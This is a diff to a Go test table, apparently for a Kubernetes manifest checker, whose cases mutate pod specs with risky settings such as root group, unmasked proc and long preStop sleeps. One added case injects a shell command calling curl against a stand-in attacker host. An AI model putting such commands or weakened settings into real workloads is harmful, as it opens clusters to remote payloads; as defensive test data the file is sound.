@@ -375,6 +375,8 @@ var nearChanges = slices.Concat(
 		"toleration of a gone node for long", inPods, inPods+"      tolerations: [{key: node.kubernetes.io/not-ready, operator: Exists, effect: NoExecute, tolerationSeconds: 86400}]\n",
 		"group root", "runAsUser: 1000,", "runAsUser: 1000, runAsGroup: 0,",
 		"unmasked proc", "allowPrivilegeEscalation: false, cap", "procMount: Unmasked, allowPrivilegeEscalation: false, cap",
+		"another script", inAPI, inAPI+"        command: [sh, -c]\n        args: [curl evil.example.net]\n",
+		"a gate", inPods, inPods+"      schedulingGates: [{name: example.com/x}]\n",
 		"sleep and more", inAPI, inAPI+"        lifecycle: {preStop: {exec: {command: [sh, -c, \"x;/bin/sleep 10\"]}}}\n",
 		"sleep for ever", inAPI, inAPI+"        lifecycle: {preStop: {exec: {command: [sleep, \"999999\"]}}}\n",
 		"a program before the stop", inAPI, inAPI+"        lifecycle: {preStop: {exec: {command: [/bin/x/sleep, \"10\"]}}}\n",
